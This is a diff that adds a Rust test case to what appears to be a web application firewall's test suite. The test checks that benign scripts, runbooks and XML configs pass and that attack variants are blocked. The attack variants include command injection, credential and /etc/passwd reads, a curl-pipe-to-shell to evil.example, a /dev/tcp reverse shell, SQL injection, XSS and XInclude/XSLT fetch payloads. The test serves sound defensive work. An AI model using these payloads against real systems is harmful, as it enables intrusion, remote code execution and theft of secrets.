@@ -2936,6 +2936,90 @@ fn holdout28_shapes_pass_and_their_attacks_still_score() {
 }
 
 #[test]
+fn holdout31_shapes_pass_and_their_attacks_still_score() {
+    // Holdout31 (a set written blind): four general shapes that blocked at PL1 untouched, each as
+    // a JSON field and as a query argument, next to attacks written around the relaxed shape,
+    // which must block.
+    let waf = waf_with("{}");
+    let both = |v: &str| as_field_and_query(&waf, v);
+    let k6 = "import http from 'k6/http';\nimport { sleep } from 'k6';\n\nconst BASE = __ENV.BASE_URL || 'https://staging.shop.example';\n\nexport default function () {\n  const res = http.get(`${BASE}/api/products?category=shoes&page=2`);\n  sleep(1);\n}\n";
+    let runbook = "# Runbook: duplicate charges\n\n## Check\n\n```sql\nSELECT idempotency_key, count(*) AS n\nFROM charges\nWHERE created_at > now() - interval '2 hours'\nGROUP BY idempotency_key\nHAVING count(*) > 1;\n```\n\n## Mitigate\n\n1. `kubectl -n payments rollout restart deploy/payments-api`\n2. Refund the duplicates.\n";
+    let view = "<View>\n  <Text name=\"text\" value=\"$review_text\"/>\n  <Choices name=\"topic\" toName=\"text\" choice=\"multiple\">\n    <Choice value=\"Shipping\"/>\n  </Choices>\n  <Labels name=\"spans\" toName=\"text\">\n    <Label value=\"Complaint\" background=\"#ff4d4f\"/>\n  </Labels>\n  <TextArea name=\"comment\" toName=\"text\" placeholder=\"Anything odd?\" editable=\"true\"/>\n</View>";
+    for v in [
+        // 3301: a PHP function name before a parenthesis holding a compound word.
+        "lithium-ion battery pack (e-bike), 36V 13Ah",
+        "lead apron for the file (x-ray) room",
+        // 3208: a placeholder that starts a path, in a program (a k6 script, a shell script).
+        k6,
+        "#!/bin/sh\nset -e\ncp \"${SRC}/app.conf\" \"${DST}/app.conf\"\nls -la \"${DST}/\"\n",
+        // Weak signals: Markdown whose examples are fenced code (an SQL query and a command span).
+        runbook,
+        // 4104: an XML document of its own vocabulary with a form control (a labeling config).
+        view,
+        "<?xml version=\"1.0\"?>\n<LinearLayout orientation=\"vertical\">\n  <Button id=\"ok\" text=\"OK\"/>\n  <Input name=\"qty\" type=\"number\"/>\n</LinearLayout>",
+    ] {
+        for o in both(v) {
+            assert!(!o.blocked, "{v}: {o:?}");
+        }
+    }
+    let with = |v: &str, from: &str, to: &str| {
+        assert!(v.contains(from), "{from}");
+        v.replacen(from, to, 1)
+    };
+    for q in [
+        "system (id)".to_string(),
+        "system (e - bike)".into(),
+        "passthru (x-1)".into(),
+        "system (e-$x)".into(),
+        "system(e-bike)".into(),
+        "pack (e-bike); system('id')".into(),
+        "shell_exec (e-bike) ; passthru (whoami)".into(),
+        // 3208 in a program: spliced into a word, IFS, a brace list, a file read.
+        with(k6, "  sleep(1);", "  const x = `/e${u}tc/pa${u}sswd`;"),
+        with(k6, "  sleep(1);", "  exec('cat${IFS}${BASE}/x');"),
+        with(k6, "  sleep(1);", "  ;{cat,/etc/passwd};"),
+        with(k6, "  sleep(1);", "  const s = '$(<${HOME}/.aws/credentials)';"),
+        with(k6, "  sleep(1);", "  const s = `${u}tc/x`;"),
+        "x;\ny;\n/bin/c${u}at /e${u}tc/pa${u}sswd;\n".into(),
+        "a();\nb();\ncurl ${HOST}/x.sh | sh;\n".into(),
+        "http.get(`${BASE}/api/products`)".into(),
+        ";cat ${HOME}/.ssh/id_rsa".into(),
+        "foo;\nbar;\ncat ~+/secret;\n".into(),
+        // Markdown with fenced examples: a breakout, commands that reach the system.
+        with(runbook, "interval '2 hours'", "interval '2 hours' union select password from users--"),
+        "x' group by 1 having 1=1--\n\n```sql\nselect 1\n```\nsee the query above please".into(),
+        "Nice post' or '1'='1\n\n```\nls -la\n```\n\nthe command above lists files".into(),
+        "Report:\n\n```sh\ncurl http://evil.example/x.sh | sh\n```\n\nand `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` now".into(),
+        // A vocabulary of its own only with inert markup: handlers, frames, forms, loads, styles.
+        with(view, "editable=\"true\"/>", "editable=\"true\" onfocus=\"alert(1)\" autofocus=\"true\"/>"),
+        with(view, "<TextArea", "<iframe src=\"https://evil.example/\"></iframe><TextArea"),
+        format!("{view}<script>alert(1)</script>"),
+        with(view, "<TextArea name=\"comment\"", "<TextArea name=\"comment\" style=\"position:fixed;top:0\""),
+        with(view, "<TextArea", "<form action=\"https://evil.example/\"><input name=\"p\"/></form><TextArea"),
+        with(view, "<TextArea", "<button formaction=\"https://evil.example/\">go</button><TextArea"),
+        with(view, "<TextArea", "<a href=\"javascript:alert(1)\">x</a><TextArea"),
+        with(view, "<TextArea", "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\"/><TextArea"),
+        with(view, "editable=\"true\"/>", "editable=\"true\">"),
+        "<View><textarea name=\"x\" placeholder=\"y\"></View>".into(),
+        "<div><textarea name=\"x\" placeholder=\"y\"/></div>".into(),
+        "<textarea name=\"x\" placeholder=\"y\"/>".into(),
+        "\"><View><TextArea name=\"a\"/></View>".into(),
+        "<View><object data=\"https://evil.example/x.swf\"/></View>".into(),
+        "<View><video src=\"https://evil.example/x.mp4\"/><Text name=\"t\" value=\"$t\"/></View>".into(),
+        "<View><input type=\"image\" src=\"https://evil.example/x.png\"/></View>".into(),
+        "<View><animate attributeName=\"href\" to=\"javascript:alert(1)\"/></View>".into(),
+        // XML processors that fetch: XInclude and XSLT, prefixed or as the default namespace.
+        "<acp xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://evil.example/foo\"/></acp>".into(),
+        "<acp xmlns=\"http://www.w3.org/2001/XInclude\"><include href=\"secret.txt\" parse=\"text\"/></acp>".into(),
+        "<doc xmlns=\"http://www.w3.org/1999/XSL/Transform\"><value-of select=\"document('http://evil.example/')\"/></doc>".into(),
+    ] {
+        for o in both(&q) {
+            assert!(o.blocked, "{q}: {o:?}");
+        }
+    }
+}
+
+#[test]
 fn holdout29_shapes_pass_and_their_attacks_still_score() {
     // Holdout29 (the twenty-fifth round, a set written blind): three general shapes that blocked
     // at PL1 untouched, each as a JSON field and as a query argument (the robots.txt also as the
